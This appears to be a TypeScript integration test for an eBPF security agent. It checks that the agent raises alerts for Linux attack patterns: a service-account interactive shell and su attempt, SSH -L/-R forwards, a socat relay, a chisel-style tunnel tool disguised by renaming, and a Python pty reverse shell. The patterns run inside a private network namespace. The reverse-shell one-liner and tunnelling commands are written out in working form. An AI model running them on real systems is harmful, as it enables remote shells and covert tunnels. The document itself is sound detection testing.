/**
 * Issue 21's remaining Linux classes against the real agent with the real-time source (eBPF):
 * service accounts opening shells and su, SSH forwards, socat relays, tunnelling tools by name and
 * by argument shape, and an interpreter reverse shell. Real processes; what listens or connects
 * does so in a private network namespace the test makes. The shapes follow public sources: GTFOBins
 * and Atomic Red Team T1059.004 / T1548.003 (service account shells and su), the OpenSSH manual
 * (-L, -R), socat's manual (TCP-LISTEN relay), chisel's README (client ... R:socks),
 * PayloadsAllTheThings' Python reverse shell.
 */
import { test } from 'node:test';
import type { TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { copyFileSync, mkdtempSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { getField } from '../../../agent/ecs/document.js';
import type { RunningAgent } from '../../helpers/agent-process.js';
import { alertOf, checkAlert, netns, printedPort, run, startWith } from './live-helpers.js';

const root = process.getuid?.() === 0;
/** www-data on Debian; any uid from 1 to 999 is a service account to the rules. */
const SERVICE_UID = '33';

async function serviceAccounts(t: TestContext, agent: RunningAgent): Promise<void> {
  // A web shell upgrading to an interactive shell: www-data runs sh -i (fed two commands on stdin).
  const shell = spawn('setpriv', [`--reuid=${SERVICE_UID}`, `--regid=${SERVICE_UID}`, '--clear-groups', 'sh', '-c', 'sh -i; true'], { stdio: ['pipe', 'ignore', 'ignore'], cwd: '/' });
  t.after(() => { shell.kill('SIGKILL'); });
  shell.stdin.end('sleep 1\nexit\n');
  const interactive = await alertOf(agent, 'pw-lnx-service-account-shell', (d) => getField(d, 'process.parent.pid') === shell.pid);
  checkAlert(interactive, 'pw-lnx-service-account-shell');
  assert.equal(getField(interactive, 'process.command_line'), 'sh -i');
  assert.equal(getField(interactive, 'process.user.id'), SERVICE_UID);
  assert.equal(getField(interactive, 'event.severity'), 73);
  assert.deepEqual(getField(interactive, 'threat.technique.subtechnique.id'), ['T1059.004']);

  // The same account trying su (no terminal, no password: it fails, the attempt is what counts).
  const suParent = await run('setpriv', [`--reuid=${SERVICE_UID}`, `--regid=${SERVICE_UID}`, '--clear-groups', 'sh', '-c', 'su -c true root </dev/null; true']);
  const su = await alertOf(agent, 'pw-lnx-service-account-su', (d) => getField(d, 'process.parent.pid') === suParent);
  checkAlert(su, 'pw-lnx-service-account-su');
  assert.equal(getField(su, 'process.name'), 'su');
  assert.equal(getField(su, 'process.parent.user.id'), SERVICE_UID);
  assert.deepEqual(getField(su, 'threat.technique.subtechnique.id'), ['T1548.003']);
}

async function tunnels(t: TestContext, agent: RunningAgent): Promise<void> {
  const ns = netns(t, 'pw-tun');
  const inNs = (args: string[]) => run('ip', ['netns', 'exec', ns, ...args]);

  // SSH forwards to a server that is not there (refused at once): the command line is the tell.
  const ssh = ['ssh', '-N', '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=2', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null'];
  const local = await inNs([...ssh, '-L', '127.0.0.1:18080:10.20.30.40:3389', 'jump@127.0.0.1']);
  const forward = await alertOf(agent, 'pw-ssh-tunnel', (d) => getField(d, 'process.pid') === local);
  checkAlert(forward, 'pw-ssh-tunnel');
  assert.equal(getField(forward, 'event.severity'), 21);
  assert.deepEqual(getField(forward, 'threat.technique.id'), ['T1572']);
  const remote = await inNs([...ssh, '-R', '13389:10.20.30.40:3389', 'jump@127.0.0.1']);
  const back = await alertOf(agent, 'pw-ssh-remote-forward', (d) => getField(d, 'process.pid') === remote);
  checkAlert(back, 'pw-ssh-remote-forward');
  assert.equal(getField(back, 'event.severity'), 47);

  // A socat relay listening in the namespace, forwarding to another address there.
  const relay = spawn('ip', ['netns', 'exec', ns, 'socat', 'TCP-LISTEN:18443,bind=127.0.0.1,reuseaddr,fork', 'TCP:127.0.0.2:443'], { stdio: 'ignore' });
  t.after(() => { relay.kill('SIGKILL'); });
  const socat = await alertOf(agent, 'pw-lnx-socat-relay', (d) => getField(d, 'process.pid') === relay.pid);
  checkAlert(socat, 'pw-lnx-socat-relay');
  assert.deepEqual(getField(socat, 'threat.technique.id'), ['T1090']);
  relay.kill('SIGKILL');

  // Tunnelling tools: by name (a program called chisel), and renamed, by chisel's argument shape.
  const dir = mkdtempSync(join('/tmp', 'pw-tools-'));
  t.after(() => { rmSync(dir, { recursive: true, force: true }); });
  const named = join(dir, 'chisel');
  const renamed = join(dir, 'dbus-helper');
  copyFileSync('/bin/true', named);
  copyFileSync('/bin/true', renamed);
  execFileSync('chmod', ['755', named, renamed]);
  const byName = await run(named, ['--version']);
  const nameAlert = await alertOf(agent, 'pw-lnx-tunnel-tool', (d) => getField(d, 'process.pid') === byName);
  checkAlert(nameAlert, 'pw-lnx-tunnel-tool');
  assert.equal(getField(nameAlert, 'process.name'), 'chisel');
  const byShape = await run(renamed, ['client', '203.0.113.7:8080', 'R:socks']);
  const shapeAlert = await alertOf(agent, 'pw-lnx-tunnel-tool', (d) => getField(d, 'process.pid') === byShape);
  assert.equal(getField(shapeAlert, 'process.name'), 'dbus-helper');
}

async function interpreterReverseShell(t: TestContext, agent: RunningAgent): Promise<void> {
  // A listener in a private namespace takes the connection, sends "exit" and hangs up.
  const ns = netns(t, 'pw-pyrev');
  const listener = spawn('ip', ['netns', 'exec', ns, 'python3', '-c',
    'import socket\ns=socket.socket()\ns.bind(("127.0.0.1",0))\ns.listen(1)\nprint(s.getsockname()[1],flush=True)\nc,_=s.accept()\nc.sendall(b"sleep 1\\nexit\\n")\nwhile c.recv(4096): pass'], { stdio: ['ignore', 'pipe', 'inherit'] });
  t.after(() => { listener.kill('SIGKILL'); });
  const port = await printedPort(listener, 'listener');
  const code = `import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",${port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`;
  // Handed over in the environment: the namespace wrapper's own command line carries no code.
  const py = await run('ip', ['netns', 'exec', ns, 'sh', '-c', 'exec python3 -c "$PW_CODE"'], { PW_CODE: code });
  const rev = await alertOf(agent, 'pw-interpreter-reverse-shell', (d) => getField(d, 'process.pid') === py);
  checkAlert(rev, 'pw-interpreter-reverse-shell');
  assert.equal(getField(rev, 'process.name'), 'python3');
  assert.equal(getField(rev, 'event.severity'), 73);
  assert.deepEqual(getField(rev, 'threat.technique.id'), ['T1059']);
}

test('Linux attack classes under the real agent (source.realtime: ebpf): service account shell and su, ssh -L/-R, socat relay, tunnel tool by name and by shape, interpreter reverse shell', { skip: !root && 'needs root (eBPF, network namespaces, another uid)' }, async (t) => {
  const agent = await startWith(t, 'ebpf');
  if (agent === undefined) return;
  await serviceAccounts(t, agent);
  await tunnels(t, agent);
  await interpreterReverseShell(t, agent);
});
